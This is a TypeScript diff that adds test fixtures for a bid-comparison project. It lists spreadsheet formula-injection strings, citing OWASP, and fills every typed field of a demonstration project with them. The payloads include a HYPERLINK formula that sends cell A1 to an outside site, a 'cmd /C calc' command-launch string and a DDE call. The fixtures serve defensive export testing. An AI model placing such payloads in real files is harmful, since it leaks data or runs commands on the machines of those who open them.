@@ -325,3 +325,50 @@ export function demonstrationProject(): Project {
   if (!read.ok) throw new Error("the demonstration project does not read");
   return read.value.project;
 }
+
+/**
+ * Texts that can run when a file is opened, if a program takes them for a formula, and how they stand in a cell.
+ * @source OWASP on formulas in spreadsheets: text that begins with = + - @, a tab or their full-width forms
+ */
+export const hostileTexts: readonly Readonly<{ text: string; shown: string }>[] = [
+  ...[
+    '=HYPERLINK("https://example.org/?"&A1,"Prices")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "＝1+1",
+    "\t=1+1",
+    '=DDE("server";"topic";"item")',
+    "</t></si><c><f>1+1</f></c>",
+  ].map((text) => ({ text, shown: text })),
+  { text: "turned \u202e back, \u0000 and \ud800 alone", shown: "turned ⟨U+202E⟩ back, \ufffd and \ufffd alone" },
+];
+
+/** The demonstration project with hostile texts wherever a person types. */
+export function attackedProject(): Project {
+  const project = demonstrationProject();
+  let used = 0;
+  const text = () => {
+    used += 1;
+    return hostileTexts[used % hostileTexts.length]?.text ?? "";
+  };
+  const spoilt = <T extends Readonly<{ label: string }>>(one: T): T => ({ ...one, label: text() });
+  const { brief, requirements, bids, costing } = project;
+  return {
+    brief: { ...brief, name: text(), owner: text(), notice: text() },
+    requirements: {
+      ...requirements,
+      criteria: requirements.criteria.map((one) => ({ ...spoilt(one), reason: text() })),
+    },
+    bids: bids.map((bid) => ({
+      ...{ ...bid, bidder: text(), system: text() },
+      prices: bid.prices.map((line) => ({ ...spoilt(line), document: text(), page: text(), note: text() })),
+    })),
+    costing: {
+      ...costing,
+      checklist: costing.checklist.map(spoilt),
+      levelling: costing.levelling.map((one) => ({ ...one, document: text(), page: "", note: "" })),
+      baseAlternative: costing.baseAlternative === null ? null : spoilt(costing.baseAlternative),
+    },
+  };
+}
